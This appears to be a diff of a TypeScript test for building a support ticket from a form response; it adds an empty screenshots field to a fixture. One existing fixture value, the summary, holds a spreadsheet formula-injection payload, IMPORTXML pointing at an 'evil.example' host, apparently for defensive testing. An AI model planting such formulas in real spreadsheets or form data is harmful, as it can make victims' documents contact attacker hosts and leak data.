@@ -20,6 +20,7 @@ const answers: FormAnswers = {
   summary: '=IMPORTXML("http://evil.example")',
   details: 'No signal on the projector',
   language: 'Español',
+  screenshots: '',
 };
 
 describe('a ticket from a form response', () => {
